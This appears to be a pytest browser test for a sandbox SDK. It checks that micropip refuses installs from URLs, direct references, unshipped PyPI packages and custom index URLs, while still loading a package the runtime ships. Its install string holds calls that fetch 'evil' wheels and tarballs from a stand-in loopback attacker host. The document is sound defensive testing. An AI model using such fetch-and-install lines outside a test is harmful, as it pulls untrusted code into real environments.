"""allowInstall: micropip installs what the runtime ships and refuses everything else before any
request is made (a loopback "attacker" counts hits; the browser reports every refused request in
audit.networkAttempts)."""

from __future__ import annotations

import pytest

from tests.browser.sandbox.conftest import SdkPage
from tests.browser.sandbox.test_isolation import Attacker, attacker  # noqa: F401

pytestmark = pytest.mark.browser

INSTALLS = """
import micropip
refused = []
for call in (
    lambda: micropip.install("{url}/evil-1.0-py3-none-any.whl"),
    lambda: micropip.install("evil @ {url}/evil-1.0.tar.gz"),
    lambda: micropip.install("inflection"),  # on PyPI, not in this runtime
    lambda: micropip.install("six", index_urls="{url}/simple"),
):
    try:
        await call()
        refused.append("installed!")
    except ValueError as error:
        refused.append(f"{{type(error).__name__}}: {{error}}")
try:
    micropip.set_index_urls(["{url}/simple"])
except ValueError as error:
    refused.append(f"{{type(error).__name__}}: {{error}}")
await micropip.install("tabulate")  # shipped by the runtime: loaded from its own files
import tabulate
print(*refused, tabulate.tabulate([[1]]), sep="\\n")
"""


def test_micropip_installs_only_the_runtime_s_own_files(
    sdk: SdkPage,
    attacker: Attacker,  # noqa: F811
) -> None:
    sandbox = sdk.create(allowInstall=True)
    result = sdk.run(sandbox, INSTALLS.format(url=attacker.url), timeoutMs=60_000)

    assert result["outcome"] == "OUTCOME_OK", result["error"]
    lines = result["stdout"].splitlines()
    assert lines[0].startswith("InstallRefused: micropip.install refused: ")
    assert "URLs, paths and wheel files are refused" in lines[0]
    assert lines[1].startswith("InstallRefused: ") and "evil @" in lines[1]
    assert lines[2].startswith("ValueError: ") and "inflection" in lines[2]
    assert "index_urls" in lines[3]
    assert lines[4].startswith("InstallRefused: micropip.set_index_urls refused")
    assert "-" in lines[5], "tabulate came from the runtime and works"
    assert attacker.hits == []
    assert result["audit"]["networkAttempts"] == []
    environment = sdk.call(sandbox, "environment")
    assert any("micropip.install(name) installs only" in note for note in environment["notes"])
